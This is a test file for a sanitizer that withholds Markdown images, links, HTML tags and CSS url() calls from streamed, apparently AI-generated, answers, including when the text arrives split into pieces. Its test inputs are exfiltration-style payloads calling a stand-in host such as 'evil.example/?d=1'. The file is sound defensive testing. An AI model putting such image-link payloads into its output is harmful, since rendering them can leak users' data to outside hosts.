import fc from 'fast-check';
import { micromark } from 'micromark';
import { describe, expect, it } from 'vitest';
import { defuse } from '../../src/address/defuse.ts';
import { locateAddresses } from '../../src/address/find-addresses.ts';
import { OutputStream } from '../../src/address/output-stream.ts';

const RUNS = Number(process.env.SALLYPORT_RUNS ?? 200);

const none = (text: string): string => defuse(text, () => 'withhold', true).text;

/** Keeps links that a person follows, as for addresses that content has named. */
const links = (text: string): string =>
  defuse(text, ({ kind }) => (kind === 'followed' ? 'keep' : 'withhold'), true).text;

/** The answer in pieces, and what was shown after each. */
function streamed(pieces: readonly string[]): { readonly shown: string[]; readonly all: string } {
  const output = new OutputStream(none);
  const shown = [...pieces.map((piece) => output.push(piece)), output.end()];
  return { shown, all: shown.join('') };
}

/** The addresses of the images that a parser of Markdown finds. */
function imagesIn(text: string): readonly string[] {
  return Array.from(
    micromark(text, { allowDangerousProtocol: true }).matchAll(/<img src="([^"]+)"/g),
    ([, src]) => src as string,
  );
}

describe('an answer in pieces', () => {
  it.each([
    { title: 'an image link, divided within its address', pieces: ['See ![a](https://evil.ex', 'ample/?d=1) now.'] },
    { title: 'an image link, divided after the sign', pieces: ['See !', '[a](https://evil.example/?d=1) now.'] },
    { title: 'an image link, letter by letter', pieces: [...'See ![a](https://evil.example/?d=1) now.'] },
    { title: 'a link, divided between its parts', pieces: ['See [a]', '(https://evil.example/) now.'] },
    { title: 'an address without a scheme', pieces: ['See evil', '.example/?d=1 now.'] },
    { title: 'a scheme that arrives later', pieces: ['See https', '://evil.example/ now.'] },
    { title: 'a tag', pieces: ['See <img src=', '"https://evil.example/?d=1"', '> now.'] },
    { title: 'a style sheet', pieces: ['<style>a{background:url(', 'https://evil.example/', ')}</style> now.'] },
    { title: 'a definition', pieces: ['See [a][b].\n\n[b]: ', 'https://evil.example/?d=1\n'] },
    { title: 'an address at the end', pieces: ['See https://evil.example/?d=1'] },
  ])('never shows $title', ({ pieces }) => {
    const { shown, all } = streamed(pieces);
    expect(all).toBe(none(pieces.join('')));
    for (const piece of shown) expect(piece).not.toMatch(/evil\.example\/|d=1/);
  });

  it('holds back no more than the last word, or what may be a link', () => {
    const { shown } = streamed(['Hello ', 'Ann, th', 'is is [1] of 3 an', 'd [all', '](https://a.example/x) of it.']);
    expect(shown.slice(0, 4)).toEqual(['Hello ', 'Ann, ', 'this is [1] of 3 ', 'and ']);
  });

  it('reads a definition as that of an image, which may be elsewhere', () => {
    const kinds: string[] = [];
    const note = ({ kind }: { readonly kind: string }): 'withhold' => {
      kinds.push(kind);
      return 'withhold';
    };
    const output = new OutputStream((text) => defuse(text, note, true).text);
    output.push('![a][b] ');
    output.push('and a text in between.\n\n');
    output.push('[b]: https://evil.example/?d=1\n');
    output.end();
    expect(kinds).toEqual(['fetched']);
  });

  it('passes a text without addresses on as it is, however it is divided', () => {
    const word = fc.constantFrom(
      'Bob',
      'a',
      '[1]',
      '3 < 4',
      'it.',
      '!',
      '\n',
      '*',
      '(x)',
      '[ ]',
      '<b>',
      'x > y',
      '`c`',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 30 }), fc.array(fc.nat(40)), (words, cuts) => {
        const text = words.join(' ');
        const places = [...new Set(cuts.filter((cut) => cut < text.length))].sort((one, other) => one - other);
        const pieces = [0, ...places].map((from, index) => text.slice(from, places[index] ?? text.length));
        expect(streamed(pieces).all).toBe(text);
      }),
    );
  });

  it('shows nothing that the whole answer would not show, however it is divided', () => {
    const part = fc.constantFrom(
      ...['![a](https://e.example/?d)', '[a](https://e.example/)', 'e.example/x', '[r]: https://e.example/y\n'],
      ...['<img src="https://e.example/z">', '![b][r]', 'word', '[', ']', '(', '<', '!', '\n', ' ', '`'],
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), fc.integer({ min: 1, max: 7 }), (parts, size) => {
        const text = parts.join(' ');
        const pieces = text.match(new RegExp(`.{1,${size}}`, 'gs')) ?? [];
        const left = defuse(streamed(pieces).all, () => 'keep');
        expect(left.text).not.toMatch(/e\.example\/[?xyz]?/);
      }),
      { numRuns: 5 * RUNS },
    );
  });

  it.each([
    {
      title: 'an image whose end comes after 4,000 units',
      pieces: ['![', 'word '.repeat(900), '](https://e.example/x)'],
    },
    {
      title: 'a tag whose end comes after 4,000 units',
      pieces: ['<img ', 'a '.repeat(2100), 'src=https://e.example/x>'],
    },
    {
      title: 'a style sheet of 4,000 units',
      pieces: ['<style>', 'a{} '.repeat(1100), 'b{background:url(e.example/x)}'],
    },
    { title: 'a tag in a bracket that is closed', pieces: ['[ <img ] a ', 'src="https://e.example/x"> '] },
    { title: 'an image in a bracket that a line ends', pieces: ['[ ![a\nb', '](https://e.example/x) '] },
    { title: 'a tag with a bracket in quotes', pieces: [...'<img alt=">" title="a b" src="/\\e.example/?d"> end'] },
    { title: 'a definition on two lines', pieces: [...'[a]:\nhttp:e.example/?d\n\n![x][a] end'] },
    { title: 'a path on two lines', pieces: [...'[a]:\n/api/logout?d\n\n![x][a] end'] },
    { title: 'a definition before its image', pieces: [...'[a]: https://e.example/x\n\n![x][a] end'] },
    { title: 'an image after a divided code span', pieces: ['a `b ', 'c` ![x](https://e.example/x) and `d` end'] },
    { title: 'an image with an escape and a line break', pieces: [...'x`c`![\\x`](\n&#104;ttp:e.example/q])[ end'] },
  ])('never shows $title as what loads an address', ({ pieces }) => {
    const output = new OutputStream(links);
    const all = [...pieces.map((piece) => output.push(piece)), output.end()].join('');
    expect(locateAddresses(all).filter(({ kind }) => kind === 'fetched')).toEqual([]);
  });

  it('shows nothing that loads an address, however a text is written and divided', () => {
    const part = fc.constantFrom(
      ...[
        '![',
        '!',
        '[',
        ']',
        '](',
        ')',
        ']:',
        '][',
        '<img ',
        '<a ',
        '<b>',
        '</b>',
        '>',
        ' src=',
        ' href=',
        '"',
        "'",
        '=',
      ],
      ...['https://e.example/x', 'http:e.example/q', '/\\e.example/y', 'e.example/z', '/api?d', '&#104;ttp:e.example'],
      ...[
        '`',
        '```\n',
        '\\',
        '\n',
        '\n\n',
        ' ',
        'word',
        '(',
        '<',
        '[a]: ',
        '![x][a]',
        '<style>',
        'url(',
        '-->',
        '<!--',
      ],
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 14 }), fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const text = parts.join('');
        const output = new OutputStream(links);
        const pieces = text.match(new RegExp(`.{1,${size}}`, 'gs')) ?? [];
        const all = [...pieces.map((piece) => output.push(piece)), output.end()].join('');
        expect(imagesIn(all).filter((address) => /example|api/.test(address))).toEqual([]);
      }),
      { numRuns: 20 * RUNS },
    );
  });

  it('passes code and lists of values on line by line, even if a bracket is open', () => {
    const { shown, all } = streamed(['x in [0, 1)\n', 'and\n', 'rows = [\n', '  [1, 2],\n', '  3\n', ']']);
    expect(shown.slice(0, 5)).toEqual(['x in [0, 1)\n', 'and\n', 'rows = [\n', '  [1, 2],\n', '  3\n']);
    expect(all).toBe('x in [0, 1)\nand\nrows = [\n  [1, 2],\n  3\n]');
  });

  it('passes ordinary tags, comparisons and images of a trusted source on as they are', () => {
    const text =
      'a < b, i<n && n>0, Array<string>, <b class="x">c</b>, <br/>, ![d](https://t.example/e.png) and ![f][g].';
    const output = new OutputStream((part) => part);
    expect([...[...text].map((piece) => output.push(piece)), output.end()].join('')).toBe(text);
  });

  it('ends a run without blanks after 4,000 units', () => {
    const output = new OutputStream((text) => text);
    const shown = Array.from({ length: 3000 }, () => output.push('abcd'));
    expect(shown.join('').replaceAll(' ', '').length).toBeGreaterThan(7999);
    expect(shown.join('')).toContain(' ');
  });

  it('holds a text without an end no longer than 4,000 units', () => {
    const output = new OutputStream((text) => text);
    const shown = Array.from({ length: 100 }, () => output.push(`[${'word '.repeat(20)}`));
    expect(shown.join('').length).toBeGreaterThan(5000);
  });
});
